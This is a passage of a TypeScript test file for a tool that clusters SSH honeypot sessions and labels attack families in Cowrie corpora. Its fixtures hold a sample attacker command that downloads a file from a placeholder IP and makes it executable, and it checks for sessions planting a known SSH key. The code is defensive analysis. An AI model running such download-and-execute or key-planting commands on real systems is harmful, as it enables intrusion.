      { id: "a", commands: ["uname -a", "cat /proc/cpuinfo"] },
      { id: "b", commands: ["uname -a", "cat /proc/cpuinfo"] },
      { id: "c", commands: ["uname -a", "cat /proc/cpuinfo"] },
      { id: "d", commands: ["wget http://192.0.2.1/x; chmod 777 x"] },
      { id: "e", commands: [] },
      { id: "f", commands: ["a b"] }
    ])
    expect(r.keys.get("a")).not.toBeNull()
    expect(r.keys.get("b")).toBe(r.keys.get("a")!)
    expect(r.keys.get("c")).toBe(r.keys.get("a")!)
    expect(r.keys.get("d")).toBeNull()
    expect(r.keys.get("e")).toBeNull()
    expect(r.keys.get("f")).toBeNull()
    expect(r.documents).toBe(5)
    expect(r.distinctDocuments).toBe(2)
    expect(r.clusters).toBe(1)
  })

  test("equals a naive dense TF-IDF + all-pairs DBSCAN on random command sessions", () => {
    const vocab = ["uname", "cat", "proc", "cpuinfo", "wget", "curl", "chmod", "tmp", "busybox", "echo", "ssh", "rm", "rf", "passwd", "crontab", "free", "top", "ps", "grep", "kill"]
    const rng = new Prng(99, "evaluation:tfidf")
    for (let round = 0; round < 20; round++) {
      const sessions = Array.from({ length: 60 }, (_, i) => {
        if (rng.next() < 0.1) return { id: `s${i}`, commands: [] as Array<string> }
        // A few templates with noise, so clusters, borders and noise all occur.
        const template = rng.int(4)
        const words: Array<string> = []
        for (let k = 0; k < 3 + rng.int(5); k++) words.push(vocab[(template * 5 + rng.int(rng.next() < 0.7 ? 5 : 20)) % vocab.length]!)
        return { id: `s${i}`, commands: [words.join(" ")] }
      })
      const fast = tfidfDbscan(sessions)
      // Naive: dense vectors over every document, cosine by full dot products.
      const docs = sessions.map((s) => (s.commands.length === 0 ? null : tokenize(s.commands.join("\n"))))
      const present = docs.filter((d): d is Array<string> => d !== null)
      const terms = [...new Set(present.flat())]
      const df = terms.map((t) => present.filter((d) => d.includes(t)).length)
      const vec = docs.map((d) => {
        if (d === null || d.length === 0) return null
        const v = terms.map((t, k) => d.filter((w) => w === t).length * (Math.log((1 + present.length) / (1 + df[k]!)) + 1))
        const norm = Math.hypot(...v)
        return v.map((x) => x / norm)
      })
      const idx = vec.flatMap((v, i) => (v === null ? [] : [i]))
      const hood = (a: number) => idx.flatMap((i, j) => (1 - vec[idx[a]!]!.reduce((s, x, k) => s + x * vec[i]![k]!, 0) <= 0.5 + 1e-12 ? [j] : []))
      const labels = dbscan(idx.length, hood, 3)
      const naive = new Map<string, ClusterKey>(sessions.map((s) => [s.id, null]))
      idx.forEach((i, j) => naive.set(sessions[i]!.id, labels[j]! === NOISE ? null : `n${labels[j]}`))
      const ids = sessions.map((s) => s.id)
      const s = pairwiseScores(ids.map((id) => naive.get(id)!), ids.map((id) => fast.keys.get(id)!))
      expect(s.ari).toBe(1)
      expect(s.predictedPairs).toBe(s.truePairs)
      expect(ids.filter((id) => fast.keys.get(id) === null).length).toBe(ids.filter((id) => naive.get(id) === null).length)
    }
  })

  test("10k command sessions in well under the time budget", () => {
    const rng = new Prng(5, "evaluation:tfidf-big")
    const words = Array.from({ length: 3000 }, (_, i) => `w${i}`)
    const sessions = Array.from({ length: 10_000 }, (_, i) => ({
      id: `s${i}`,
      commands: [Array.from({ length: 4 + rng.int(12) }, () => words[Math.floor(Math.pow(rng.next(), 3) * words.length)]!).join(" ")]
    }))
    const t0 = performance.now()
    const r = tfidfDbscan(sessions)
    expect(performance.now() - t0).toBeLessThan(20_000)
    expect(r.documents).toBe(10_000)
  })
})

// ---------------------------------------------------------------------------------------
// Real corpora (read in place; skipped when absent)

const CORPORA = resolve(import.meta.dir, "../../../shared/corpora")
const haveCorpora = existsSync(join(CORPORA, "radec73-2024-04.cowrie.json.gz")) && existsSync(join(CORPORA, "alvarogar-2022-07.cowrie.json.gz"))
if (!haveCorpora) console.warn(`[evaluation] ${CORPORA} is missing: the corpus tests are SKIPPED.`)

describe.skipIf(!haveCorpora)("signature labels on the public corpora", () => {
  test("radec73: every session planting the mdrfckr key is in one family; no family without a signature", async () => {
    const l = await labelCorpus(join(CORPORA, "radec73-2024-04.cowrie.json.gz"))
    const keyPrefix = "AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcw"
    const planters = l.sessions.filter((s) => s.commands.some((c) => c.includes(keyPrefix) && c.includes("authorized_keys")))
    expect(planters.length).toBeGreaterThan(100)
    const families = new Set(planters.map((s) => l.labels.sessions.get(s.id)!.family))
    expect(families.size).toBe(1)
    expect([...families][0]).not.toBeNull()
    // Every label family has two or more sessions.
    const sizes = new Map<string, number>()
    for (const label of l.labels.sessions.values()) if (label.family !== null) sizes.set(label.family, (sizes.get(label.family) ?? 0) + 1)
    expect(Math.min(...sizes.values())).toBeGreaterThanOrEqual(2)
    expect(sizes.size).toBe(l.stats.familiesWithPairs)
    // Sessions that only tried popular credentials and ran nothing stay unlabelled.
    const popularOnly = l.sessions.filter((s) =>
      s.commands.length === 0 && s.downloads.length === 0 && s.uploads.length === 0 && s.credentials.length > 0 &&
      s.credentials.every((c) => isPopularCredential(c.username, c.password))
    )
    expect(popularOnly.length).toBeGreaterThan(100)
    for (const s of popularOnly) expect(l.labels.sessions.get(s.id)!.family).toBeNull()
  })

  test("alvarogar: the written labels and result score the same through runEval", async () => {
    const dir = mkdtempSync(join(tmpdir(), "dshield-eval-corpus-"))
    try {
      const e = await evaluateCorpus(join(CORPORA, "alvarogar-2022-07.cowrie.json.gz"), { outDir: dir })
      expect(e.engineError).toBeNull()
      const report = runEval({ labelsPath: join(dir, "alvarogar-2022-07.labels.tsv"), resultPath: join(dir, "alvarogar-2022-07.result.json") })
      expect(report.labelledSessions).toBe(e.labels.stats.labelledSessions)
      expect(report.family).toEqual(e.engine!.partition.family)
      expect(report.calibration.campaigns.ece).toBe(e.engine!.report.calibration.campaigns.ece)
      expect(e.baseline.partition.labelledSessions).toBe(report.labelledSessions)
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })
})
